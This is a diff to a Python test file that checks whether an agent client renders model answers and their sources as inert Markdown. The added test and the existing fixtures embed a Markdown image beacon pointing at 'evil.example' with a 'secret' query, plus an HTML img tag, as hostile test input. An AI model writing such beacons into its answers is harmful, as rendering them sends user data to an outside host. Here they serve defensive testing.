@@ -1,10 +1,15 @@
 """Answers of a model as Markdown that fetches and runs nothing."""
 
+from collections.abc import Callable
+
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from agent_client.agent.outcome import Counts, Outcome, Source
+from agent_client.conversation import Usage
 from agent_client.inert_markdown import inert_markdown, live_parts
+from agent_client.service import chat_chunks, research_tool
 
 LIVE = (
     "![x](http://evil.example/?q=secret)",
@@ -61,3 +66,21 @@ def test_a_flood_of_pictures_is_not_parsed() -> None:
 @given(st.lists(st.sampled_from(PIECES), max_size=30).map("".join))
 def test_whatever_a_model_writes_nothing_lives(text: str) -> None:
     assert live_parts(inert_markdown(text)) == set()
+
+
+@pytest.mark.parametrize("answer_text", [chat_chunks.answer_text, research_tool.answer_text])
+def test_hosts_get_no_live_part_of_an_outcome(answer_text: Callable[[Outcome], str]) -> None:
+    beacon = "![x](http://evil.example/?q=secret)"
+    outcome = Outcome(
+        question="Q?",
+        answer=f"Yes [1]. {beacon}",
+        short_answer=f"{beacon} yes",
+        stop_reason="answered",
+        sources=(Source(1, "https://a.example/", f"{beacon} <img src=x>", is_cited=True),),
+        counts=Counts(),
+        usage=Usage(0, 0),
+        seconds=0.0,
+    )
+    told = answer_text(outcome)
+    assert "Yes" in told
+    assert live_parts(told) == set()
